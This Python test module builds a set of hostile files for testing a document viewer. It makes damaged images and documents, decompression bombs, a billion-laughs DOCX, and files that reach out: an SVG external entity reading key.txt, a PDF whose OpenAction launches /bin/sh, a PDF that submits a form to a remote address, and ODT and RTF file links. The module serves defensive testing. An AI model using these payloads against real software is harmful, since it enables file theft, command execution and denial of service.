"""A hundred hostile files, made here: damaged ones of every kind, bombs, loops, and files that name other files."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

from tests.reviewer.clean_copy import photos
from tests.reviewer.viewers.samples import EMAIL, docx, heic, media, odt, pdf, rtf, xlsx, zipped

_CHANCE = random.Random(20261129)
_FLIPS = 24


def sound_files(folder: Path) -> dict[str, bytes]:
    """A whole file of each kind, from which the damaged ones are made."""
    board = photos.board((200, 160))
    png = photos.encoded(board, "PNG")
    return {
        "jpeg": photos.jpeg(),
        "png": png,
        "webp": photos.encoded(board, "WEBP"),
        "gif": photos.encoded(board, "GIF"),
        "heic": heic(),
        "avif": photos.encoded(board, "AVIF"),
        "pdf": pdf(2),
        "docx": docx(),
        "xlsx": xlsx(),
        "odt": odt(),
        "rtf": rtf(),
        "mp3": media("mp3", folder, with_video=False, seconds=2),
        "m4a": media("m4a", folder, with_video=False, seconds=2),
        "mp4": media("mp4", folder, with_video=True, seconds=6),
        "eml": EMAIL,
        "zip": zipped([("a", "b" * 500), ("c", "d")]),
    }


def damaged(files: dict[str, bytes]) -> Iterator[tuple[str, bytes]]:
    """Of each file: cut in the middle, changed in three ways, and with a foreign file behind its beginning."""
    for name, content in files.items():
        yield f"{name}, cut", content[: len(content) // 2]
        for number in range(3):
            changed = bytearray(content)
            for _ in range(_FLIPS):
                changed[_CHANCE.randrange(8, len(changed))] ^= 1 << _CHANCE.randrange(8)
            yield f"{name}, changed {number}", bytes(changed)
        yield f"{name}, with a program behind it", content[:32] + b"\x7fELF" + bytes(_CHANCE.randbytes(2000))


def reaching_out(secret: Path) -> Iterator[tuple[str, bytes]]:
    """Files that ask their viewer to show ``secret``, a picture, or to run, fetch or print something."""
    linked = (
        f'<text:p><draw:frame><draw:image xlink:href="file://{secret}" xlink:type="simple"/></draw:frame></text:p>'
    )
    yield "an ODT that links a file", odt(extra=linked)
    section = f'<text:section><text:section-source xlink:href="file://{secret.parent}/key.txt"/></text:section>'
    yield "an ODT that includes a file", odt(extra=section)
    yield "a play list of files", f"#EXTM3U\n#EXTINF:1,\nfile://{secret}\n".encode()
    yield "a list to join", f"ffconcat version 1.0\nfile '{secret}'\n".encode()
    yield "a PDF with a script", pdf(1, extra="/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
    yield "a PDF that starts a program", pdf(1, extra="/OpenAction << /S /Launch /F (/bin/sh) >>")
    yield "a PDF that sends a form", pdf(1, extra="/OpenAction << /S /SubmitForm /F (http://203.0.113.5/) >>")
    yield "an RTF that links a file", b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "%b"}}}' % str(secret).encode()
    svg = f'<!DOCTYPE s [<!ENTITY x SYSTEM "file://{secret.parent}/key.txt">]><svg>&x;</svg>'
    yield "an SVG with an entity", svg.encode()


def _rtf_link(secret: Path) -> bytes:
    return b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "%b"}}}' % str(secret).encode()


def bombs() -> Iterator[tuple[str, bytes]]:
    """Small files that would become large, or never end."""
    yield "a PNG of 4,000 million pixels", photos.bomb()
    size = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    yield "a PNG of 900 million pixels", _png(size, zlib.compress(bytes(1 << 20)))
    yield "a ZIP of zeros", zipped([("a", "b"), ("zeros", bytes(200 << 20))])
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    yield "a DOCX with entities in entities", docx(f"<!DOCTYPE x [<!ENTITY l0 'ha'>{laughs}]>&l9;")
    yield "a PDF whose pages hold themselves", pdf(1).replace(b"/Kids [4 0 R]", b"/Kids [2 0 R]")
    yield "a PDF of a million pages", pdf(1).replace(b"/Count 1", b"/Count 999999")
    yield "a PDF of enormous pages", pdf(1).replace(b"595 842", b"9e9 9e9")
    yield "a text of one line", b"A" * (8 << 20)
    yield "an e-mail of parts in parts", _nested_mail(200)
    entries = io.BytesIO()
    with zipfile.ZipFile(entries, "w") as archive:
        for number in range(20_000):
            archive.writestr(f"{number}", b"")
    yield "a ZIP of 20,000 entries", entries.getvalue()
    yield "a gzip of zeros", zlib.compress(bytes(100 << 20), wbits=31)


def _png(header: bytes, pixels: bytes) -> bytes:
    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def _nested_mail(depth: int) -> bytes:
    begin = "From: a@example.org\nTo: b@example.org\nSubject: deep\nMIME-Version: 1.0\n"
    for level in range(depth):
        begin += f"Content-Type: multipart/mixed; boundary=b{level}\n\n--b{level}\n"
    return f"{begin}Content-Type: text/plain\n\nthe end\n".encode()
